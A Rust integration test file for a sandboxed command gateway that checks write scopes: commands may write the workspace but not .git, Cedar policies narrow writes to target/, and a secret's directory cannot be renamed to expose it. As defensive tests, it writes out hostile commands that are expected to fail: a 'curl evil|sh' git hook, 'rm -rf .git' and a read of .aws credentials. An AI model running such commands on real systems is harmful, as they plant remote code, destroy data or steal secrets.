//! Where a command may write (issue: command writes by path; security round 3, items 1 and 3),
//! end to end through the gateway with the real `codespace` binary as the sandbox helper: under
//! the shipped policy a command writes the workspace but never its `.git` (not even by renaming
//! it), the result and the audit log say so, the operator's `command_write_paths` and a policy on
//! `process_write` narrow the scope to `target/`, a bad candidate is refused at load, and a
//! secret's parent directory cannot be renamed away from the rule that withholds it.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing
)]

use crate::process_common;

use codespace_engine::Config;
use process_common::*;
use serde_json::{Value, json};
use std::path::{Path, PathBuf};

/// True (after a skip) when write scopes cannot be enforced here; under `CI=true` or
/// `CODESPACE_REQUIRE_ISOLATION=1` that fails the test instead.
fn skip(test: &str) -> bool {
    let probe = codespace_runner_sandbox::probe();
    if probe.masking_available() {
        return false;
    }
    codespace_test_skip::skip(
        test,
        format!("no sandbox or no mount namespaces ({probe:?})"),
    );
    true
}

/// A workspace with a git directory (`.git/hooks`, `.git/config`), `src/` and `Cargo.toml`.
fn plant(root: &Path) {
    std::fs::create_dir_all(root.join(".git/hooks")).unwrap();
    std::fs::write(root.join(".git/config"), "[core]\n").unwrap();
    std::fs::create_dir_all(root.join("src")).unwrap();
    std::fs::write(root.join("src/lib.rs"), "").unwrap();
    std::fs::write(root.join("Cargo.toml"), "[package]\n").unwrap();
}

/// Runs `script` in `sh -c` to its end once the lease is free: (exec result, exit, output).
async fn sh(gw: &codespace_engine::Gateway, script: &str) -> (Value, Option<i64>, String) {
    let r = exec_when_free(gw, "w", &["sh", "-c", script]).await;
    assert_eq!(r["state"], "exited", "{script} did not finish: {r}");
    let mut out = r["chunk"].as_str().unwrap().to_string();
    if r["eof"] != true {
        let id = r["process_id"].as_str().unwrap();
        let (rest, _) = read_all(gw, id, r["cursor"].as_u64().unwrap()).await;
        out.push_str(&rest);
    }
    let code = r["exit_code"].as_i64();
    (r, code, out)
}

fn step(name: &str, cmd: &str) -> String {
    format!("{cmd} 2>/dev/null; echo {name}=$?; ")
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_shipped_profile_writes_the_workspace_but_never_its_git_metadata() {
    let test = "the_shipped_profile_writes_the_workspace_but_never_its_git_metadata";
    if skip(test) {
        return;
    }
    let e = env();
    plant(&e.root);
    let script = [
        step(
            "hook",
            "echo 'curl evil|sh' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit",
        ),
        step("config", "echo '[core] hooksPath=/tmp' >> .git/config"),
        step("mv", "mv .git elsewhere"),
        step("rm", "rm -rf .git"),
        step("file", "echo ok > notes.txt"),
        step("src", "echo 'fn x() {}' >> src/lib.rs"),
    ]
    .concat();
    let (r, _, out) = sh(&e.gw, &script).await;
    for refused in ["hook", "config", "mv", "rm"] {
        assert!(
            !out.contains(&format!("{refused}=0")),
            "{refused} succeeded: {out}"
        );
    }
    assert!(out.contains("file=0") && out.contains("src=0"), "{out}");
    assert!(!e.root.join(".git/hooks/pre-commit").exists());
    assert_eq!(
        std::fs::read_to_string(e.root.join(".git/config")).unwrap(),
        "[core]\n"
    );
    assert!(e.root.join(".git").is_dir() && !e.root.join("elsewhere").exists());
    // The result names the scope the command got.
    assert_eq!(
        r["write_paths"],
        json!({"writable": ["."], "read_only": [".git"]}),
        "{r}"
    );
    let info = call(&e.gw, "workspace_info", json!({"workspace_id": "w"}))
        .await
        .unwrap();
    assert_eq!(
        info["execution"]["isolation"]["write_paths"],
        json!({"writable": ["."], "read_only": [".git"]}),
        "{info}"
    );
    // The audit log has the `.git` candidate's deny under the command's own decision id.
    let rows =
        e.gw.store()
            .unwrap()
            .query_decisions(&codespace_store::DecisionQuery {
                tool: Some("exec_command".into()),
                ..Default::default()
            })
            .unwrap();
    let exec = rows
        .iter()
        .find(|r| r.action == "exec_command" && r.decision == "allow")
        .unwrap();
    let git = rows
        .iter()
        .find(|r| {
            r.decision_id == exec.decision_id
                && r.action == "process_write"
                && r.path.as_deref() == Some(".git")
        })
        .unwrap_or_else(|| panic!("no process_write row for .git: {rows:#?}"));
    assert_eq!(git.decision, "deny");
    assert_eq!(
        git.policy_ids,
        vec!["base.forbid.git-metadata-command-write"]
    );
    let mut indexes: Vec<i64> = rows
        .iter()
        .filter(|r| r.decision_id == exec.decision_id)
        .map(|r| r.sub_index)
        .collect();
    let n = indexes.len();
    indexes.sort_unstable();
    indexes.dedup();
    assert_eq!(indexes.len(), n, "sub indexes collide: {rows:#?}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_nested_repository_keeps_its_git_metadata_too() {
    let test = "a_nested_repository_keeps_its_git_metadata_too";
    if skip(test) {
        return;
    }
    let e = env();
    plant(&e.root);
    std::fs::create_dir_all(e.root.join("vendor/lib/.git/hooks")).unwrap();
    let (r, _, out) = sh(
        &e.gw,
        &[
            step("nested", "touch vendor/lib/.git/hooks/post-checkout"),
            step("beside", "touch vendor/lib/ok"),
        ]
        .concat(),
    )
    .await;
    assert!(
        !out.contains("nested=0") && out.contains("beside=0"),
        "{out}"
    );
    assert_eq!(
        r["write_paths"]["read_only"],
        json!([".git", "vendor/lib/.git"]),
        "{r}"
    );
}

/// A policies dir: the shipped set plus `extra` as `profiles/extra.cedar`.
fn policies_with(dir: &Path, extra: &str) -> PathBuf {
    let repo = Path::new(env!("CARGO_MANIFEST_DIR")).parent().unwrap();
    let pol = dir.join("policies");
    for sub in ["base", "profiles"] {
        std::fs::create_dir_all(pol.join(sub)).unwrap();
        for e in std::fs::read_dir(repo.join("policies").join(sub)).unwrap() {
            let p = e.unwrap().path();
            std::fs::copy(&p, pol.join(sub).join(p.file_name().unwrap())).unwrap();
        }
    }
    std::fs::write(pol.join("profiles/extra.cedar"), extra).unwrap();
    std::fs::create_dir_all(dir.join("schema")).unwrap();
    std::fs::copy(
        repo.join("schema/codespace.cedarschema"),
        dir.join("schema/codespace.cedarschema"),
    )
    .unwrap();
    pol
}

const ONLY_TARGET: &str = r#"
@id("builder.permit.exec")
permit (principal in CodeSpace::PermissionProfile::"builder", action == CodeSpace::Action::"exec_command", resource);
@id("builder.permit.write-target")
permit (principal in CodeSpace::PermissionProfile::"builder", action == CodeSpace::Action::"process_write", resource)
when { resource.path == "target" || resource.path like "target/*" };
"#;

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_scope_of_only_target_refuses_every_other_write_in_the_command() {
    let test = "a_scope_of_only_target_refuses_every_other_write_in_the_command";
    if skip(test) {
        return;
    }
    let pdir = tempfile::tempdir().unwrap();
    let policies = policies_with(pdir.path(), ONLY_TARGET);
    let e = env_with(Opts {
        profile: "builder",
        policies: Some((policies, json!({"builder": {"extends": "read-only"}}))),
        workspace: json!({"command_write_paths": [".", "target", "tmp"]}),
        ..Opts::default()
    });
    plant(&e.root);
    let script = [
        step(
            "target",
            "mkdir -p target/debug && echo built > target/debug/out",
        ),
        step("src", "touch src/x"),
        step("hook", "touch .git/hooks/y"),
        step("bak", "cp Cargo.toml Cargo.toml.bak"),
    ]
    .concat();
    let (r, code, out) = sh(&e.gw, &script).await;
    assert_eq!(code, Some(0), "{out}");
    assert!(out.contains("target=0"), "{out}");
    for refused in ["src", "hook", "bak"] {
        assert!(
            out.contains(&format!("{refused}=1")),
            "{refused} did not fail: {out}"
        );
    }
    // `target` existed only as a candidate: the server created it for the allowed scope; `tmp`
    // was denied and is not created.
    assert!(e.root.join("target/debug/out").is_file());
    assert!(!e.root.join("tmp").exists());
    assert!(!e.root.join("src/x").exists() && !e.root.join("Cargo.toml.bak").exists());
    assert_eq!(
        r["write_paths"],
        json!({"writable": ["target"], "read_only": [".", ".git"]}),
        "{r}"
    );
    // workspace_info tells the same before any command runs.
    let info = call(&e.gw, "workspace_info", json!({"workspace_id": "w"}))
        .await
        .unwrap();
    assert_eq!(
        info["execution"]["isolation"]["write_paths"],
        json!({"writable": ["target"], "read_only": [".", "tmp", ".git"]}),
        "{info}"
    );
}

#[test]
fn bad_write_path_candidates_are_refused_at_load_naming_the_field() {
    let dir = tempfile::tempdir().unwrap();
    let root = std::fs::canonicalize(dir.path()).unwrap();
    std::fs::write(root.join("file"), "").unwrap();
    std::os::unix::fs::symlink("/tmp", root.join("link")).unwrap();
    std::fs::create_dir(root.join("real")).unwrap();
    std::os::unix::fs::symlink("real", root.join("via")).unwrap();
    for (entry, want) in [
        (
            "/abs",
            "workspaces.w.command_write_paths[0]: `/abs` must be a workspace-relative",
        ),
        (
            "../up",
            "workspaces.w.command_write_paths[0]: `../up` must be a workspace-relative",
        ),
        ("file", "`file` is not a directory"),
        ("link", "`link` goes through a symlink"),
        ("via/sub", "`via/sub` goes through a symlink"),
    ] {
        let cfg = json!({"workspaces": {"w": {"root": root, "command_write_paths": [entry]}}});
        let err = Config::from_json(&cfg.to_string(), Path::new("/"))
            .err()
            .unwrap_or_else(|| panic!("{entry} was accepted"))
            .to_string();
        assert!(err.contains(want), "{entry}: {err}");
    }
    // A candidate that does not exist yet is accepted (decided, and created when allowed, at
    // every command start).
    let cfg = json!({"workspaces": {"w": {"root": root, "command_write_paths": ["target", "./"]}}});
    let c = Config::from_json(&cfg.to_string(), Path::new("/")).unwrap();
    assert_eq!(c.workspaces["w"].command_write_paths, vec!["target", "."]);
    // An environment's list is every workspace's default.
    let cfg = json!({
        "environments": {"ci": {"kind": "host", "command_write_paths": ["out"]}},
        "workspaces": {"w": {"root": root, "environment": "ci"}}
    });
    let c = Config::from_json(&cfg.to_string(), Path::new("/")).unwrap();
    assert_eq!(c.workspaces["w"].command_write_paths, vec!["out"]);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_secrets_parent_renamed_by_a_command_keeps_the_secret_withheld() {
    let test = "a_secrets_parent_renamed_by_a_command_keeps_the_secret_withheld";
    if skip(test) {
        return;
    }
    let e = env();
    std::fs::create_dir_all(e.root.join(".aws")).unwrap();
    std::fs::write(
        e.root.join(".aws/credentials"),
        "aws_secret_access_key=hunter2\n",
    )
    .unwrap();
    let (_, _, out) = sh(
        &e.gw,
        &[
            step("mv", "mv .aws aws-moved"),
            "cat .aws/credentials; echo end".to_string(),
        ]
        .concat(),
    )
    .await;
    assert!(!out.contains("mv=0"), "the rename succeeded: {out}");
    assert!(!out.contains("hunter2") && out.contains("end"), "{out}");
    assert!(e.root.join(".aws/credentials").is_file() && !e.root.join("aws-moved").exists());
    // The tool still withholds it by the name its rule matches.
    let err = call(
        &e.gw,
        "read",
        json!({"workspace_id": "w", "path": ".aws/credentials"}),
    )
    .await
    .unwrap_err();
    assert_eq!(err.code.as_str(), "UNAUTHORIZED", "{err:?}");
    let err = call(
        &e.gw,
        "read",
        json!({"workspace_id": "w", "path": "aws-moved/credentials"}),
    )
    .await
    .unwrap_err();
    assert_ne!(err.code.as_str(), "OK", "{err:?}");
}

#[test]
fn policy_explain_of_a_command_shows_its_whole_write_scope() {
    let dir = tempfile::tempdir().unwrap();
    let root = std::fs::canonicalize(dir.path()).unwrap();
    let cfg = json!({"workspaces": {"w": {"root": root, "command_write_paths": ["target"]}}});
    let cfg = Config::from_json(&cfg.to_string(), Path::new("/")).unwrap();
    let policy = std::sync::Arc::new(
        codespace_engine::PolicyStore::load(codespace_engine::PolicySource::Embedded).unwrap(),
    );
    let gw = codespace_engine::Gateway::new(
        cfg,
        policy,
        None,
        codespace_engine::SandboxFacts {
            sandbox_enforced: true,
            network_enforced: true,
            masking_enforced: true,
        },
    )
    .unwrap();
    let call = codespace_engine::ToolCall::parse(
        "exec_command",
        &json!({"workspace_id": "w", "command": ["cargo", "test"]}),
    )
    .unwrap();
    let ex = gw
        .explain(&codespace_engine::Session::stdio(), &call, None)
        .unwrap();
    let d = ex.decision.unwrap();
    let scope: Vec<(&str, bool)> = d
        .subs
        .iter()
        .filter(|s| s.action == "process_write")
        .map(|s| (s.subject.as_str(), s.allowed))
        .collect();
    assert_eq!(
        scope,
        vec![
            ("write .", true),
            ("write target", true),
            ("write .git", false)
        ],
        "{d:?}"
    );
    let git = d.subs.iter().find(|s| s.subject == "write .git").unwrap();
    assert_eq!(
        git.policy_ids,
        vec!["base.forbid.git-metadata-command-write"]
    );
}
